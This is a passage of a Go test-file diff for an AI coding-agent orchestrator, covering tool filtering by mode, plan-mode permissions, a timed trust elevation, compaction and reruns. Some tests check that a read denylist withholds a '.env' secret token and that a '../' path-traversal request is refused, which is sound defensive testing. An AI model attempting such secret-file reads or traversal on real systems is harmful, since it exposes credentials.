+	if err := json.Unmarshal(data, &sf); err != nil {
+		t.Fatalf("unmarshal session file: %v", err)
+	}
+	got := make([]string, 0, len(sf.Messages))
+	for _, m := range sf.Messages[1:] {
+		got = append(got, m.Content)
+	}
+	want := []string{"[COMPACTION_SUMMARY]\nearlier work", "u3", "a3"}
+	if strings.Join(got, "|") != strings.Join(want, "|") {
+		t.Fatalf("session file messages=%q, want %q", got, want)
+	}
+	if sf.ArchivedMessages != 5 {
+		t.Fatalf("ArchivedMessages=%d, want 5", sf.ArchivedMessages)
+	}
+	// 归档只影响持久化副本，模型仍能看到完整上下文。
+	// Archiving only touches the persisted copy; the model keeps the full context.
+	if len(orch.messages) != 8 || len(orch.messageTimestamps) != 8 {
+		t.Fatalf("in-memory messages=%d timestamps=%d, want all 8 kept", len(orch.messages), len(orch.messageTimestamps))
+	}
+
+	// 再追加两条后只归档新超出的部分；压缩重建消息后不会重复归档。
+	// Appending two more archives only the new overflow; rebuilding messages by compaction does not re-archive.
+	orch.appendMessage(chat.Message{Role: "user", Content: "u4"})
+	orch.appendMessage(chat.Message{Role: "assistant", Content: "a4"})
+	if err := orch.flushSessionToFile(context.Background()); err != nil {
+		t.Fatalf("second flushSessionToFile failed: %v", err)
+	}
+	orch.messages = append([]chat.Message{{Role: "assistant", Content: "[COMPACTION_SUMMARY]\nnewer work"}}, orch.messages[len(orch.messages)-3:]...)
+	orch.messageTimestamps = make([]string, len(orch.messages))
+	orch.appendMessage(chat.Message{Role: "user", Content: "u5"})
+	if err := orch.flushSessionToFile(context.Background()); err != nil {
+		t.Fatalf("third flushSessionToFile failed: %v", err)
+	}
+	archive, err = os.ReadFile(filepath.Join(tmpDir, ".coder", "sessions", sid+".archive.jsonl"))
+	if err != nil {
+		t.Fatalf("read archive file: %v", err)
+	}
+	var contents []string
+	for _, line := range strings.Split(strings.TrimSpace(string(archive)), "\n") {
+		var m sessionFileMessage
+		if err := json.Unmarshal([]byte(line), &m); err != nil {
+			t.Fatalf("unmarshal archive line: %v", err)
+		}
+		contents = append(contents, m.Content)
+	}
+	if want := `u1|a1|u2||{"ok":true}|u3|a3`; strings.Join(contents, "|") != want {
+		t.Fatalf("archive contents=%q, want %q", strings.Join(contents, "|"), want)
+	}
+}
+
+// TestAgentToolFiltering verifies that tool definitions are properly filtered
+// based on agent mode (build vs plan) following the opencode approach.
+// Tools are filtered out from LLM-visible list at request time, not at registration.
+func TestAgentToolFiltering(t *testing.T) {
+	// Create registry with all tools including question
+	registry := tools.NewRegistry(
+		mockTool{name: "read"},
+		mockTool{name: "edit"},
+		mockTool{name: "question"},
+		mockTool{name: "task"},
+	)
+
+	// Test build mode: should filter out question
+	buildAgent := agent.Resolve("build", config.AgentConfig{})
+	if buildAgent.ToolEnabled["question"] {
+		t.Fatal("build agent should have question disabled")
+	}
+	buildDefs := registry.DefinitionsFiltered(buildAgent.ToolEnabled)
+	for _, def := range buildDefs {
+		if def.Function.Name == "question" {
+			t.Fatal("question tool should be filtered out in build mode")
+		}
+	}
+
+	// Test plan mode: should keep question but filter out edit/task
+	planAgent := agent.Resolve("plan", config.AgentConfig{})
+	if !planAgent.ToolEnabled["question"] {
+		t.Fatal("plan agent should have question enabled")
+	}
+	if planAgent.ToolEnabled["edit"] {
+		t.Fatal("plan agent should have edit disabled")
+	}
+	if planAgent.ToolEnabled["task"] {
+		t.Fatal("plan agent should have task disabled")
+	}
+	planDefs := registry.DefinitionsFiltered(planAgent.ToolEnabled)
+	hasQuestion := false
+	hasEdit := false
+	hasTask := false
+	for _, def := range planDefs {
+		switch def.Function.Name {
+		case "question":
+			hasQuestion = true
+		case "edit":
+			hasEdit = true
+		case "task":
+			hasTask = true
+		}
+	}
+	if !hasQuestion {
+		t.Fatal("question tool should be available in plan mode")
+	}
+	if hasEdit {
+		t.Fatal("edit tool should be filtered out in plan mode")
+	}
+	if hasTask {
+		t.Fatal("task tool should be filtered out in plan mode")
+	}
+}
+
+func TestResolveToolDefsForInput_MinimalByDefault(t *testing.T) {
+	registry := tools.NewRegistry(
+		mockTool{name: "read"},
+		mockTool{name: "list"},
+		mockTool{name: "grep"},
+		mockTool{name: "edit"},
+		mockTool{name: "write"},
+		mockTool{name: "bash"},
+		mockTool{name: "fetch"},
+		mockTool{name: "patch"},
+		mockTool{name: "task"},
+		mockTool{name: "git_status"},
+		mockTool{name: "question"},
+	)
+	orch := New(&scriptedProvider{model: "test"}, registry, Options{
+		ActiveAgent: agent.Resolve("build", config.AgentConfig{}),
+	})
+	defs := orch.resolveToolDefsForInput("请修复这个函数")
+	seen := map[string]bool{}
+	for _, def := range defs {
+		seen[def.Function.Name] = true
+	}
+	for _, name := range []string{"read", "list", "grep", "edit", "write", "bash"} {
+		if !seen[name] {
+			t.Fatalf("expected core tool %q to be exposed", name)
+		}
+	}
+	for _, name := range []string{"fetch", "patch", "task", "git_status", "question"} {
+		if seen[name] {
+			t.Fatalf("did not expect optional tool %q to be exposed by default", name)
+		}
+	}
+}
+
+func TestResolveToolDefsForInput_ExposesFetchAndPatchOnDemand(t *testing.T) {
+	registry := tools.NewRegistry(
+		mockTool{name: "read"},
+		mockTool{name: "bash"},
+		mockTool{name: "fetch"},
+		mockTool{name: "patch"},
+	)
+	orch := New(&scriptedProvider{model: "test"}, registry, Options{
+		ActiveAgent: agent.Resolve("build", config.AgentConfig{}),
+	})
+	defs := orch.resolveToolDefsForInput("请根据 https://intranet.example/api/docs 修复这个 diff patch")
+	seen := map[string]bool{}
+	for _, def := range defs {
+		seen[def.Function.Name] = true
+	}
+	if !seen["fetch"] {
+		t.Fatal("expected fetch to be exposed for URL/docs request")
+	}
+	if !seen["patch"] {
+		t.Fatal("expected patch to be exposed for diff/patch request")
+	}
+}
+
+func TestResolveToolDefsForInput_FormatMatchesWholeWords(t *testing.T) {
+	registry := tools.NewRegistry(mockTool{name: "read"}, mockTool{name: "format"})
+	orch := New(&scriptedProvider{model: "test"}, registry, Options{
+		ActiveAgent: agent.Resolve("build", config.AgentConfig{}),
+	})
+	exposed := func(input string) bool {
+		for _, def := range orch.resolveToolDefsForInput(input) {
+			if def.Function.Name == "format" {
+				return true
+			}
+		}
+		return false
+	}
+	for _, input := range []string{"please format main.go", "run gofmt on it", "用 black 格式化一下", "reformat the file"} {
+		if !exposed(input) {
+			t.Fatalf("expected format to be exposed for %q", input)
+		}
+	}
+	for _, input := range []string{"show more information about the blacklist", "update the platform docs"} {
+		if exposed(input) {
+			t.Fatalf("format should not be exposed for %q", input)
+		}
+	}
+}
 
-		// 不是闲聊 - 空字符串
-		{"", false},
+func TestReadOnlyProfilesDisablePluginTools(t *testing.T) {
+	root := t.TempDir()
+	dir := filepath.Join(root, tools.PluginManifestDir)
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatalf("mkdir: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "deploy.json"), []byte(`{"name":"deploy","command":"true"}`), 0o644); err != nil {
+		t.Fatalf("write manifest: %v", err)
+	}
+	plugins, errs := tools.LoadPluginTools(root, 5000, 1<<16, nil)
+	if len(errs) != 0 || len(plugins) != 1 {
+		t.Fatalf("LoadPluginTools() = %d tools, errs %v", len(plugins), errs)
+	}
+	orch := New(&scriptedProvider{model: "test"}, tools.NewRegistry(mockTool{name: "read"}, plugins[0]), Options{WorkspaceRoot: root})
+	exposed := func() bool {
+		for _, def := range orch.resolveToolDefsForInput("") {
+			if def.Function.Name == "deploy" {
+				return true
+			}
+		}
+		return false
+	}
 
-		// 边界情况 - 短但无明确问候词
-		{"what", false},
-		{"why", false},
+	if !exposed() || !orch.isToolAllowed("deploy") {
+		t.Fatal("build mode should expose and allow plugin tools")
 	}
-	for _, tc := range tests {
-		got := isChattyGreeting(tc.input)
-		if got != tc.want {
-			t.Fatalf("isChattyGreeting(%q) = %v, want %v", tc.input, got, tc.want)
+	orch.SetMode("plan")
+	if exposed() || orch.isToolAllowed("deploy") {
+		t.Fatal("plan mode must not expose or allow plugin tools")
+	}
+	orch.activeAgent = agent.Resolve("explore", config.AgentConfig{})
+	if exposed() || orch.isToolAllowed("deploy") {
+		t.Fatal("the explore subagent must not expose or allow plugin tools")
+	}
+	if !orch.isToolAllowed("read") {
+		t.Fatal("read-only profiles keep their built-in read tools")
+	}
+	orch.workflow.PlanReadonlyTools = []string{"deploy"}
+	if !exposed() || !orch.isToolAllowed("deploy") {
+		t.Fatal("plugins listed in workflow.plan_readonly_tools stay available to read-only profiles")
+	}
+}
+
+func TestIsNoOpEditResultTreatsFailuresAsUnchanged(t *testing.T) {
+	cases := map[string]bool{
+		`{"ok":true,"operation":"updated","diff":"..."}`:    false,
+		`{"ok":true,"operation":"unchanged"}`:               true,
+		`{"ok":false,"formatter":"gofmt","error":"syntax"}`: true,
+		`{"ok":true,"path":"a.go"}`:                         false,
+	}
+	for result, want := range cases {
+		if got := isNoOpEditResult(result); got != want {
+			t.Fatalf("isNoOpEditResult(%s) = %v, want %v", result, got, want)
 		}
 	}
 }
 
-func TestIsDocLikePath(t *testing.T) {
-	tests := []struct {
-		path string
-		want bool
-	}{
-		{"docs/foo", true},
-		{"x/docs/y", true},
-		{"README.md", true},
-		{"file.txt", true},
-		{"internal/foo.go", false},
-		{"", false},
+func TestRuntimeToolsSystemMessage_OnlyMentionsVisibleRules(t *testing.T) {
+	orch := New(&scriptedProvider{model: "test"}, tools.NewRegistry(mockTool{name: "fetch"}), Options{
+		ActiveAgent: agent.Resolve("build", config.AgentConfig{}),
+	})
+	msg := orch.runtimeToolsSystemMessage([]chat.ToolDef{
+		{Type: "function", Function: chat.ToolFunction{Name: "read", Parameters: map[string]any{"type": "object"}}},
+		{Type: "function", Function: chat.ToolFunction{Name: "fetch", Parameters: map[string]any{"type": "object"}}},
+	})
+	if !strings.Contains(msg.Content, "fetch may be used") {
+		t.Fatalf("expected fetch guidance, got %q", msg.Content)
 	}
-	for _, tc := range tests {
-		got := isDocLikePath(tc.path)
-		if got != tc.want {
-			t.Fatalf("isDocLikePath(%q) = %v, want %v", tc.path, got, tc.want)
+	if strings.Contains(msg.Content, "Use patch only") {
+		t.Fatalf("did not expect patch guidance, got %q", msg.Content)
+	}
+	if !strings.Contains(msg.Content, "Do not create or update todos") {
+		t.Fatalf("expected todo suppression guidance, got %q", msg.Content)
+	}
+}
+
+func TestRuntimeModeSystemMessage_PlanForbidsMutatingExecution(t *testing.T) {
+	orch := New(&scriptedProvider{model: "test"}, tools.NewRegistry(mockTool{name: "bash"}), Options{
+		ActiveAgent: agent.Resolve("plan", config.AgentConfig{}),
+	})
+	orch.SetMode("PLAN")
+
+	msg := orch.runtimeModeSystemMessage()
+	for _, needle := range []string{
+		"do NOT execute it in PLAN mode",
+		"Respond with a concise plan or next steps instead",
+		"treat it as read-only diagnostics only",
+	} {
+		if !strings.Contains(msg.Content, needle) {
+			t.Fatalf("expected %q in plan runtime message, got %q", needle, msg.Content)
 		}
 	}
 }
 
-func TestSummarizeForLog(t *testing.T) {
-	if summarizeForLog("") != "-" {
-		t.Fatalf("empty: %q", summarizeForLog(""))
+func TestPlanModeAllowsConfiguredReadOnlyTools(t *testing.T) {
+	pol := permission.New(config.PermissionConfig{Default: "ask"})
+	pol.SetPlanReadOnlyTools([]string{"mcp_search"})
+	prov := &scriptedProvider{
+		model: "test",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{
+				{ID: "call_search", Type: "function", Function: chat.ToolCallFunction{Name: "mcp_search", Arguments: `{}`}},
+				{ID: "call_deploy", Type: "function", Function: chat.ToolCallFunction{Name: "mcp_deploy", Arguments: `{}`}},
+			}},
+			{Content: "done"},
+		},
 	}
-	if summarizeForLog("  short  ") != "short" {
-		t.Fatalf("short: %q", summarizeForLog("  short  "))
+	registry := tools.NewRegistry(
+		mockTool{name: "mcp_search", result: `{"ok":true,"hits":3}`},
+		mockTool{name: "mcp_deploy", result: `{"ok":true,"deployed":true}`},
+	)
+	orch := New(prov, registry, Options{
+		ActiveAgent: agent.Resolve("plan", config.AgentConfig{}),
+		Policy:      pol,
+	})
+	if decision := pol.Decide("mcp_search", json.RawMessage(`{}`)); decision.Decision != permission.DecisionAllow {
+		t.Fatalf("configured read-only tool in plan mode: %+v", decision)
 	}
-	long := strings.Repeat("x", 300)
-	out := summarizeForLog(long)
-	if !strings.HasSuffix(out, "...(truncated)") {
-		t.Fatalf("long truncate: %q", out)
+	if _, err := orch.RunTurn(context.Background(), "look it up", nil); err != nil {
+		t.Fatalf("RunTurn: %v", err)
+	}
+	results := map[string]string{}
+	for _, msg := range orch.messages {
+		if msg.Role == "tool" {
+			results[msg.ToolCallID] = msg.Content
+		}
+	}
+	if !strings.Contains(results["call_search"], `"hits":3`) {
+		t.Fatalf("configured tool should run in plan mode, got %q", results["call_search"])
+	}
+	if strings.Contains(results["call_deploy"], "deployed") || results["call_deploy"] == "" {
+		t.Fatalf("unlisted tool should stay blocked in plan mode, got %q", results["call_deploy"])
+	}
+
+	orch.SetMode("build")
+	if decision := pol.Decide("mcp_search", json.RawMessage(`{}`)); decision.Decision != permission.DecisionAsk {
+		t.Fatalf("plan_readonly_tools should not apply outside plan mode: %+v", decision)
 	}
 }
 
-func TestParseJSONObjectAndGetters(t *testing.T) {
-	m := parseJSONObject(`{"a":"v","b":2,"c":[1,2]}`)
-	if m == nil {
-		t.Fatal("parseJSONObject returned nil")
+func TestTrustElevatesTemporarilyAndReverts(t *testing.T) {
+	pol := permission.New(config.PermissionConfig{Default: "ask", Write: "deny"})
+	orch := New(&scriptedProvider{model: "test"}, tools.NewRegistry(), Options{Policy: pol})
+	// New applies the build preset; start from a custom policy so the exact prior config must come back.
+	pol.Restore(config.PermissionConfig{Default: "ask", Write: "deny"})
+	now := time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
+	orch.now = func() time.Time { return now }
+	decide := func(tool string) permission.Decision {
+		return pol.Decide(tool, json.RawMessage(`{"path":"a.txt"}`)).Decision
 	}
-	if getString(m, "a", "") != "v" {
-		t.Fatalf("getString: %q", getString(m, "a", ""))
+
+	got, err := orch.RunInput(context.Background(), "/trust 15", nil)
+	if err != nil {
+		t.Fatalf("RunInput /trust: %v", err)
 	}
-	if getString(m, "missing", "def") != "def" {
-		t.Fatalf("getString missing: %q", getString(m, "missing", "def"))
+	if !strings.Contains(got, "Trust mode on for 15 minute(s)") {
+		t.Fatalf("unexpected /trust output: %q", got)
 	}
-	if getInt(m, "b", 0) != 2 {
-		t.Fatalf("getInt: %d", getInt(m, "b", 0))
+	if decide("write") != permission.DecisionAllow || decide("fetch") != permission.DecisionAllow {
+		t.Fatal("trust mode should allow every tool")
 	}
-	if getInt(m, "missing", 42) != 42 {
-		t.Fatalf("getInt missing: %d", getInt(m, "missing", 42))
+	now = now.Add(10*time.Minute + 30*time.Second)
+	if label := orch.TrustLabel(); label != "trust 5m" {
+		t.Fatalf("TrustLabel = %q, want %q", label, "trust 5m")
 	}
-	if len(getArray(m, "c")) != 2 {
-		t.Fatalf("getArray: %v", getArray(m, "c"))
+
+	now = now.Add(5 * time.Minute)
+	if _, err := orch.RunInput(context.Background(), "/trust", nil); err != nil {
+		t.Fatalf("RunInput /trust: %v", err)
 	}
-	if parseJSONObject("") != nil || parseJSONObject("invalid") != nil {
-		t.Fatal("parseJSONObject invalid")
+	if decide("write") != permission.DecisionDeny || decide("fetch") != permission.DecisionAsk {
+		t.Fatalf("policy should revert after the timer: write=%s fetch=%s", decide("write"), decide("fetch"))
+	}
+	if orch.TrustRemaining() != 0 || orch.TrustLabel() != "" {
+		t.Fatal("trust should be inactive after expiry")
 	}
-}
 
-func TestShortQuoteOrDashFirstLine(t *testing.T) {
-	if short("hello", 3) != "hel..." {
-		t.Fatalf("short: %q", short("hello", 3))
+	if _, err := orch.RunInput(context.Background(), "/trust 30", nil); err != nil {
+		t.Fatalf("RunInput /trust: %v", err)
 	}
-	if short("hi", 10) != "hi" {
-		t.Fatalf("short no trunc: %q", short("hi", 10))
+	if decide("write") != permission.DecisionAllow {
+		t.Fatal("second /trust should elevate again")
 	}
-	if quoteOrDash("") != "-" {
-		t.Fatalf("quoteOrDash empty: %q", quoteOrDash(""))
+	got, err = orch.RunInput(context.Background(), "/trust off", nil)
+	if err != nil {
+		t.Fatalf("RunInput /trust off: %v", err)
 	}
-	if firstLine("\n\n  first  \nsecond") != "first" {
-		t.Fatalf("firstLine: %q", firstLine("\n\n  first  \nsecond"))
+	if !strings.Contains(got, "previous permissions restored") {
+		t.Fatalf("unexpected /trust off output: %q", got)
+	}
+	if decide("write") != permission.DecisionDeny {
+		t.Fatal("/trust off should revert immediately")
+	}
+	for _, bad := range []string{"/trust 0", "/trust 999", "/trust soon"} {
+		got, _ := orch.RunInput(context.Background(), bad, nil)
+		if !strings.Contains(got, "Invalid duration") {
+			t.Fatalf("%s: expected rejection, got %q", bad, got)
+		}
 	}
 }
 
-func TestRunTurnPlanDoesNotAutoInitializeTodos(t *testing.T) {
-	registry := tools.NewRegistry(
-		mockTool{name: "todoread", result: `{"ok":true,"count":0,"items":[]}`},
-		mockTool{name: "todowrite", result: `{"ok":true,"count":1,"items":[{"content":"a","status":"in_progress"}]}`},
-	)
-	prov := &scriptedProvider{
-		model: "demo-model",
-		responses: []provider.ChatResponse{
-			{Content: "这里是执行计划。"},
-		},
+func TestSkillsReloadPicksUpNewSkillFiles(t *testing.T) {
+	root := t.TempDir()
+	writeSkill := func(dir, content string) {
+		t.Helper()
+		if err := os.MkdirAll(filepath.Join(root, dir), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(root, dir, "SKILL.md"), []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
 	}
-	orch := New(prov, registry, Options{MaxSteps: 3})
-	orch.SetMode("plan")
-
-	got, err := orch.RunTurn(context.Background(), "安装 python", nil)
+	writeSkill("lint", "---\nname: lint\ndescription: run linters\n---\nbody")
+	manager, err := skills.Discover([]string{root})
 	if err != nil {
-		t.Fatalf("RunTurn failed: %v", err)
+		t.Fatalf("Discover: %v", err)
 	}
-	if !strings.Contains(got, "计划") {
-		t.Fatalf("unexpected final output: %q", got)
+	skills.MergeBuiltin(manager)
+	skillTool := tools.NewSkillTool(manager, nil)
+	orch := New(&scriptedProvider{model: "test"}, tools.NewRegistry(skillTool), Options{SkillManager: manager})
+
+	writeSkill("release", "---\nname: release\ndescription: cut a release\n---\nsteps")
+	writeSkill("lint", "---\nname: lint\ndescription: run linters and vet\n---\nbody")
+	got, err := orch.RunInput(context.Background(), "/skills reload", nil)
+	if err != nil {
+		t.Fatalf("RunInput /skills reload: %v", err)
 	}
-	for _, msg := range orch.messages {
-		if msg.Role == "tool" && msg.Name == "todowrite" {
-			t.Fatalf("unexpected auto todowrite in plan mode: %+v", msg)
+	for _, needle := range []string{"added: release", "changed: lint"} {
+		if !strings.Contains(got, needle) {
+			t.Fatalf("expected %q in reload report: %q", needle, got)
 		}
 	}
+
+	raw, err := skillTool.Execute(context.Background(), json.RawMessage(`{"action":"list"}`))
+	if err != nil {
+		t.Fatalf("skill list: %v", err)
+	}
+	if !strings.Contains(raw, `"name":"release"`) || !strings.Contains(raw, "run linters and vet") {
+		t.Fatalf("skill tool should see the reloaded skills, got %s", raw)
+	}
+	if list, _ := orch.RunInput(context.Background(), "/skills", nil); !strings.Contains(list, "release") {
+		t.Fatalf("/skills should list the reloaded skills, got %q", list)
+	}
+	if again, _ := orch.RunInput(context.Background(), "/skills reload", nil); again != "Skills reloaded: no changes." {
+		t.Fatalf("second reload should report no changes, got %q", again)
+	}
 }
 
-func TestRunTurnPlanAllowsDirectTodoWriteWhenModelCallsIt(t *testing.T) {
-	registry := tools.NewRegistry(
-		mockTool{name: "todowrite", result: `{"ok":true,"count":1,"items":[{"content":"explicit todo","status":"in_progress"}]}`},
-	)
+func TestToolResultCheckpointPersistsMidTurnProgress(t *testing.T) {
+	root := t.TempDir()
+	dbPath := filepath.Join(root, "coder.db")
+	store, err := storage.NewSQLiteStore(dbPath)
+	if err != nil {
+		t.Fatalf("new sqlite store: %v", err)
+	}
+	defer store.Close()
+
+	sid := storage.NewSessionID()
+	if err := store.CreateSession(storage.SessionMeta{
+		ID:    sid,
+		Agent: "build",
+		Model: "test",
+		CWD:   root,
+	}); err != nil {
+		t.Fatalf("create session: %v", err)
+	}
+
 	prov := &scriptedProvider{
-		model: "demo-model",
+		model: "test",
 		responses: []provider.ChatResponse{
 			{
 				ToolCalls: []chat.ToolCall{
 					{
-						ID:   "call_todo_first",
+						ID:   "call_read_1",
 						Type: "function",
 						Function: chat.ToolCallFunction{
-							Name:      "todowrite",
-							Arguments: `{"todos":[{"content":"explicit todo","status":"in_progress","priority":"high"}]}`,
+							Name:      "read",
+							Arguments: `{"path":"README.md"}`,
 						},
 					},
 				},
 			},
-			{Content: "todo 已更新。"},
 		},
 	}
-	orch := New(prov, registry, Options{MaxSteps: 4})
-	orch.SetMode("plan")
+	registry := tools.NewRegistry(mockTool{name: "read", result: `{"ok":true,"path":"README.md","content":"hello"}`})
+	orch := New(prov, registry, Options{
+		ActiveAgent:   agent.Resolve("build", config.AgentConfig{}),
+		Store:         store,
+		SessionIDRef:  &sid,
+		WorkspaceRoot: root,
+	})
 
-	got, err := orch.RunTurn(context.Background(), "请先记一个todo", nil)
+	if _, err := orch.RunTurn(context.Background(), "read the file", nil); err == nil {
+		t.Fatal("expected provider error after scripted tool call")
+	}
+
+	sessionPath := filepath.Join(root, ".coder", "sessions", sid+".json")
+	data, err := os.ReadFile(sessionPath)
 	if err != nil {
-		t.Fatalf("RunTurn failed: %v", err)
+		t.Fatalf("read session file: %v", err)
 	}
-	if !strings.Contains(got, "todo") {
-		t.Fatalf("unexpected final output: %q", got)
+	content := string(data)
+	if !strings.Contains(content, `"role": "tool"`) || !strings.Contains(content, `"name": "read"`) {
+		t.Fatalf("expected tool checkpoint in session file, got %s", content)
 	}
+}
 
-	seenToolResult := false
-	for _, msg := range orch.messages {
-		if msg.Role != "tool" || msg.Name != "todowrite" {
-			continue
-		}
-		if strings.Contains(msg.Content, `"denied":true`) {
-			t.Fatalf("todowrite should not be blocked by orchestrator in plan mode: %q", msg.Content)
-		}
-		if strings.Contains(msg.Content, `"ok":true`) {
-			seenToolResult = true
-		}
+func TestRunInputOpenShowsFileWithLineNumbers(t *testing.T) {
+	root := t.TempDir()
+	src := "package demo\n\n// A returns one.\nfunc A() int {\n\treturn 1\n}\n"
+	if err := os.WriteFile(filepath.Join(root, "file.go"), []byte(src), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(root, ".env"), []byte("TOKEN=secret\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	orch := New(nil, tools.NewRegistry(), Options{WorkspaceRoot: root})
+	orch.policy = permission.New(config.PermissionConfig{ReadDenylist: []string{".env"}})
+
+	got, err := orch.RunInput(context.Background(), "/open file.go", nil)
+	if err != nil {
+		t.Fatalf("/open error: %v", err)
+	}
+	want := strings.Join([]string{
+		"file.go (6 lines)",
+		"1 | package demo",
+		"2 | ",
+		"3 | // A returns one.",
+		"4 | func A() int {",
+		"5 | \treturn 1",
+		"6 | }",
+	}, "\n")
+	if got != want {
+		t.Fatalf("/open output:\n%s\nwant:\n%s", got, want)
+	}
+
+	got, _ = orch.RunInput(context.Background(), "/open .env", nil)
+	if !strings.Contains(got, "withheld by permission.read_denylist") || strings.Contains(got, "secret") {
+		t.Fatalf("/open should honour read_denylist: %q", got)
+	}
+	got, _ = orch.RunInput(context.Background(), "/open ../outside.go", nil)
+	if !strings.Contains(got, "outside the workspace") {
+		t.Fatalf("/open should refuse paths outside the workspace: %q", got)
+	}
+
+	highlighted, _ := highlightLine(`	return "x" // done`, syntaxForPath("file.go"), false)
+	if !strings.Contains(highlighted, ansiCyan+"return"+ansiReset) || !strings.Contains(highlighted, ansiGreen+`"x"`+ansiReset) ||
+		!strings.Contains(highlighted, ansiGray+"// done"+ansiReset) {
+		t.Fatalf("unexpected highlighting: %q", highlighted)
+	}
+}
+
+type overflowOnceProvider struct {
+	scriptedProvider
+	overflowed bool
+}
+
+func (p *overflowOnceProvider) Chat(ctx context.Context, req provider.ChatRequest, cb *provider.StreamCallbacks) (provider.ChatResponse, error) {
+	if !p.overflowed {
+		p.overflowed = true
+		p.requests = append(p.requests, req)
+		return provider.ChatResponse{}, errors.New("400 Bad Request: This model's maximum context length is 8192 tokens (context_length_exceeded)")
+	}
+	return p.scriptedProvider.Chat(ctx, req, cb)
+}
+
+func TestRunTurnCompactsAndRetriesOnContextOverflow(t *testing.T) {
+	prov := &overflowOnceProvider{scriptedProvider: scriptedProvider{
+		model:     "demo-model",
+		responses: []provider.ChatResponse{{Content: "recovered"}},
+	}}
+	orch := New(prov, tools.NewRegistry(), Options{
+		Compaction: config.CompactionConfig{Auto: false, RecentMessages: 4},
+	})
+	for i := 0; i < 10; i++ {
+		orch.appendMessage(chat.Message{Role: "user", Content: fmt.Sprintf("old question %d", i)})
+		orch.appendMessage(chat.Message{Role: "assistant", Content: fmt.Sprintf("old answer %d", i)})
+	}
+
+	got, err := orch.RunTurn(context.Background(), "new question", nil)
+	if err != nil {
+		t.Fatalf("RunTurn should recover from context overflow: %v", err)
+	}
+	if got != "recovered" {
+		t.Fatalf("final answer = %q, want recovered", got)
+	}
+	if len(prov.requests) != 2 {
+		t.Fatalf("expected overflowed request plus one retry, got %d requests", len(prov.requests))
+	}
+	if first, retry := len(prov.requests[0].Messages), len(prov.requests[1].Messages); retry >= first {
+		t.Fatalf("retry should send fewer messages after compaction: first=%d retry=%d", first, retry)
 	}
-	if !seenToolResult {
-		t.Fatal("expected todowrite tool result")
+	if orch.LastCompactionSummary() == "" {
+		t.Fatal("expected a forced compaction summary")
 	}
 }
 
-func TestRunTurnFiltersPolicyDeniedToolsFromDefinitions(t *testing.T) {
-	registry := tools.NewRegistry(
-		mockTool{name: "read", result: `{"ok":true}`},
-		mockTool{name: "write", result: `{"ok":true}`},
-		mockTool{name: "edit", result: `{"ok":true}`},
-		mockTool{name: "patch", result: `{"ok":true}`},
-		mockTool{name: "task", result: `{"ok":true}`},
-		mockTool{name: "bash", result: `{"ok":true}`},
-	)
+func TestRunTurnSurfacesRepeatedContextOverflow(t *testing.T) {
+	prov := &overflowOnceProvider{scriptedProvider: scriptedProvider{model: "demo-model"}}
+	orch := New(prov, tools.NewRegistry(), Options{})
+	if _, err := orch.RunTurn(context.Background(), "short history", nil); err == nil || !strings.Contains(err.Error(), "context_length_exceeded") {
+		t.Fatalf("overflow without anything to compact should surface the error, got %v", err)
+	}
+}
+
+func TestRunInputRerunReplaysStoredToolCall(t *testing.T) {
+	root := t.TempDir()
+	target := filepath.Join(root, "notes.txt")
+	if err := os.WriteFile(target, []byte("alpha\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	ws, err := security.NewWorkspace(root)
+	if err != nil {
+		t.Fatal(err)
+	}
 	prov := &scriptedProvider{
 		model: "demo-model",
 		responses: []provider.ChatResponse{
-			{Content: "analysis only"},
+			{ToolCalls: []chat.ToolCall{
+				{ID: "call_read", Type: "function", Function: chat.ToolCallFunction{Name: "read", Arguments: `{"path":"notes.txt"}`}},
+				{ID: "call_write", Type: "function", Function: chat.ToolCallFunction{Name: "write", Arguments: `{"path":"out.txt","content":"x"}`}},
+			}},
+			{Content: "done"},
 		},
 	}
-	orch := New(prov, registry, Options{MaxSteps: 2})
-	orch.policy = permission.New(config.PermissionConfig{
-		Default: "ask", Read: "allow", Edit: "deny", Write: "deny", Patch: "deny", Task: "deny",
-		Bash: map[string]string{"*": "ask"},
+	approvals := 0
+	orch := New(prov, tools.NewRegistry(tools.NewReadTool(ws, nil), tools.NewWriteTool(ws)), Options{
+		WorkspaceRoot: root,
+		OnApproval: func(context.Context, tools.ApprovalRequest) (bool, error) {
+			approvals++
+			return false, nil
+		},
 	})
+	if _, err := orch.RunTurn(context.Background(), "read the notes", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
+	}
+	if err := os.Remove(filepath.Join(root, "out.txt")); err != nil {
+		t.Fatalf("turn should have written out.txt: %v", err)
+	}
+	before := len(orch.Messages())
 
-	if _, err := orch.RunTurn(context.Background(), "analyze code structure", nil); err != nil {
-		t.Fatalf("RunTurn failed: %v", err)
+	got, err := orch.RunInput(context.Background(), "/rerun 1", nil)
+	if err != nil {
+		t.Fatalf("/rerun error: %v", err)
 	}
-	if len(prov.requests) == 0 {
-		t.Fatal("expected provider to receive at least one request")
+	if !strings.Contains(got, "identical to the stored result") || strings.Count(got, "alpha") != 2 {
+		t.Fatalf("fresh read should match the stored one: %q", got)
 	}
-	seen := map[string]bool{}
-	for _, def := range prov.requests[0].Tools {
-		seen[def.Function.Name] = true
+
+	if err := os.WriteFile(target, []byte("beta\n"), 0o644); err != nil {
+		t.Fatal(err)
 	}
-	if !seen["read"] {
-		t.Fatalf("expected read tool definition, got %+v", seen)
+	got, _ = orch.RunInput(context.Background(), "/rerun 1", nil)
+	if !strings.Contains(got, "differs from the stored result") || !strings.Contains(got, "alpha") || !strings.Contains(got, "beta") {
+		t.Fatalf("rerun should show stored and fresh results side by side: %q", got)
 	}
-	if !seen["bash"] {
-		t.Fatalf("expected bash tool definition, got %+v", seen)
+
+	got, _ = orch.RunInput(context.Background(), "/rerun 2", nil)
+	if !strings.Contains(got, "Re-run of #2 cancelled") {
+		t.Fatalf("mutating rerun should need confirmation: %q", got)
 	}
-	for _, denied := range []string{"write", "edit", "patch", "task"} {
-		if seen[denied] {
-			t.Fatalf("expected %s to be filtered out by policy deny", denied)
-		}
+	if _, err := os.Stat(filepath.Join(root, "out.txt")); !os.IsNotExist(err) {
